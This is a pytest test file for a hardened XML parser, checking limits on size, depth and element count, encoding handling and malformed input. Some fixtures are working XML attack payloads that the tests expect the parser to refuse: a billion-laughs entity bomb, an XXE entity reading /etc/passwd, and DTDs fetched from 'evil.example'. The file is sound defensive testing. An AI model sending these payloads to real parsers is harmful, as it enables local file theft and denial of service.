"""The hardened XML parser: no DTD, no entities, bounded size, depth and element count."""

from __future__ import annotations

import pytest

from evidence_cli.safexml import UnsafeXMLError, XMLSyntaxError, parse

XMP = b"""<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/">
 <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
  <rdf:Description rdf:about="" xmlns:xmp="http://ns.adobe.com/xap/1.0/"
     xmp:CreateDate="2019-05-01T13:45:10+02:00">
   <xmp:CreatorTool>Caf\xc3\xa9 &amp; Co &lt;1&gt;</xmp:CreatorTool>
  </rdf:Description>
 </rdf:RDF>
</x:xmpmeta>
<?xpacket end="w"?>"""

RDF = "{http://www.w3.org/1999/02/22-rdf-syntax-ns#}"
XMPNS = "{http://ns.adobe.com/xap/1.0/}"


def test_parses_namespaces_attributes_and_text() -> None:
    root = parse(XMP)
    assert root.tag == "{adobe:ns:meta/}xmpmeta"
    desc = root.find(f"{RDF}RDF/{RDF}Description")
    assert desc is not None
    assert desc.get(f"{XMPNS}CreateDate") == "2019-05-01T13:45:10+02:00"
    assert desc.get(f"{RDF}about") == ""
    tool = desc.find(f"{XMPNS}CreatorTool")
    assert tool is not None and tool.text == "Café & Co <1>"


def test_accepts_text_input() -> None:
    assert parse("<a><b>x</b></a>").findtext("b") == "x"


def test_utf16_document() -> None:
    root = parse('<?xml version="1.0" encoding="UTF-16"?><a>é</a>'.encode("utf-16"))
    assert root.text == "é"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<foo/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE foo SYSTEM "http://evil.example/foo.dtd">
<foo/>"""

EMPTY_DOCTYPE = b"""<!DOCTYPE foo><foo/>"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER, EXTERNAL_DTD, EMPTY_DOCTYPE])
def test_dtds_and_entities_are_refused(doc: bytes) -> None:
    with pytest.raises(UnsafeXMLError, match="refused"):
        parse(doc)


def test_undefined_entity_is_a_syntax_error_not_a_fetch() -> None:
    with pytest.raises(XMLSyntaxError):
        parse(b"<a>&undefined;</a>")


def test_size_bound() -> None:
    doc = b"<a>" + b"x" * 100 + b"</a>"
    assert parse(doc, max_bytes=len(doc)).text == "x" * 100
    with pytest.raises(UnsafeXMLError, match="limit"):
        parse(doc, max_bytes=len(doc) - 1)


def test_depth_bound() -> None:
    assert parse(b"<a>" * 10 + b"</a>" * 10, max_depth=10) is not None
    with pytest.raises(UnsafeXMLError, match="nesting"):
        parse(b"<a>" * 11 + b"</a>" * 11, max_depth=10)


def test_very_deep_document_is_refused_without_recursion() -> None:
    depth = 100_000
    with pytest.raises(UnsafeXMLError):
        parse(b"<a>" * depth + b"</a>" * depth)


def test_element_count_bound() -> None:
    doc = b"<r>" + b"<i/>" * 99 + b"</r>"
    assert len(parse(doc, max_elements=100)) == 99
    with pytest.raises(UnsafeXMLError, match="elements"):
        parse(b"<r>" + b"<i/>" * 100 + b"</r>", max_elements=100)


@pytest.mark.parametrize(
    "doc",
    [b"", b"<a>", b"<a></b>", b"not xml", b"<a x='1' x='2'/>", b"<a/><b/>", b"\xff\xfe\x00garbage", b"<a>\x00</a>"],
)
def test_malformed_xml_is_a_syntax_error(doc: bytes) -> None:
    with pytest.raises(XMLSyntaxError):
        parse(doc)


def test_unbound_prefix_is_a_syntax_error() -> None:
    with pytest.raises(XMLSyntaxError):
        parse(b"<x:a/>")


@pytest.mark.parametrize("encoding", ["UTTTF-8", "Shift_JIS", "UTF-32", "rot13", "idna", "punycode", "x" * 300])
def test_an_encoding_that_cannot_be_read_is_a_syntax_error(encoding: str) -> None:
    """Found by the fuzzer in a DOCX's [Content_Types].xml: pyexpat raised LookupError (an
    unknown name), ValueError (a multi-byte encoding it cannot use) or UnicodeError, which
    escaped the extractor."""
    doc = f'<?xml version="1.0" encoding="{encoding}"?><a>\u00e9</a>'.encode("latin-1")
    with pytest.raises(XMLSyntaxError, match="encoding that cannot be read"):
        parse(doc)


def test_a_single_byte_encoding_python_knows_is_read() -> None:
    root = parse('<?xml version="1.0" encoding="cp1252"?><a>\u20ac</a>'.encode("cp1252"))
    assert root.text == "\u20ac"
